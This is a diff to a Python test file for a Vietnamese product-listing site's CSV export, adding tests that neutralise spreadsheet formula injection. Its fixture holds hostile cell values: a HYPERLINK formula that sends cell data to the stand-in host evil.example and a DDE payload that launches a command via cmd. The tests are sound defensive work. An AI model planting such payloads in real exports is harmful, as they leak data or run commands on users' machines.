@@ -7,7 +7,7 @@ import json
 
 from conftest import PRODUCT, parse_html
 
-from ocop.exports import CSV_HEADERS
+from ocop.exports import CSV_HEADERS, csv_cell
 
 
 def read_csv(path) -> list[dict[str, str]]:
@@ -17,8 +17,12 @@ def read_csv(path) -> list[dict[str, str]]:
 
 
 def cell(value) -> str:
-    """What a JSON value looks like in the CSV."""
-    return "" if value is None or isinstance(value, bool) else str(value)
+    """What a JSON value looks like in the CSV: text a spreadsheet would run as a formula (starting with
+    = + - @, a tab or a carriage return: OWASP "CSV Injection") is written with a leading '."""
+    if value is None or isinstance(value, bool):
+        return ""
+    text = str(value)
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
 
 
 def test_csv_matches_json_field_by_field(sample_output):
@@ -52,6 +56,36 @@ def test_csv_cells_quote_commas_and_leave_missing_values_empty(make_site, build,
     assert row["Giá (đồng)"] == "" and record["price"] is None
     assert row["Đơn vị tính"] == "" and record["unit"] is None
     assert row["Hạng sao"] == "4" and row["Ngày cấp"] == "2025-08-15" and row["Hiệu lực đến"] == "2028-08-15"
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Mật ong")',
+    "unit": "+chai 500 ml",
+    "producer_name": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "certificate_number": "-1234/QĐ-UBND",
+}
+
+
+def test_csv_neutralises_formula_cells_and_json_keeps_the_true_values(make_site, build, tmp_path):
+    from conftest import PRODUCER
+
+    product = (PRODUCT.replace("title: Mật ong rừng Hữu Liên", "title: '" + HOSTILE["title"].replace("'", "''") + "'")
+               .replace("unit: chai 500 ml", 'unit: "+chai 500 ml"').replace('number: "1234/QĐ-UBND"', 'number: "-1234/QĐ-UBND"'))
+    producer = PRODUCER.replace("name: Hợp tác xã Mật ong Hữu Liên", "name: \"@SUM(1+9)*cmd|' /C calc'!A0\"")
+    code, _, err = build(make_site({"products/mat-ong-rung-huu-lien.md": product, "producers/htx-mat-ong-huu-lien.md": producer}))
+    assert code == 0, err
+    out = tmp_path / "output"
+    records = {r["slug"]: r for r in json.loads((out / "products.json").read_text(encoding="utf-8"))}
+    rows = {r["Mã trang"]: r for r in read_csv(out / "products.csv")}
+    record, row = records["mat-ong-rung-huu-lien"], rows["mat-ong-rung-huu-lien"]
+    for key, value in HOSTILE.items():
+        assert record[key] == value  # the open data keeps what the editor wrote
+        assert row[CSV_HEADERS[key]] == "'" + value  # the spreadsheet shows it as text, never runs it
+    assert row["Hạng sao"] == "4" and row["Giá (đồng)"] == "250000" and row["Ngày cấp"] == "2025-08-15"
+    assert all(row[CSV_HEADERS[k]] == cell(v) for k, v in record.items())  # the comparison test's rule
+    # Text fields are trimmed when read, so a leading tab or carriage return cannot come from content;
+    # the rule covers them anyway, for any column added later.
+    assert csv_cell("\tx") == "'\tx" and csv_cell("\r=1") == "'\r=1" and csv_cell(250000) == "250000"
 
 
 def test_stats_page_links_the_open_data_and_print_pages(sample_output):
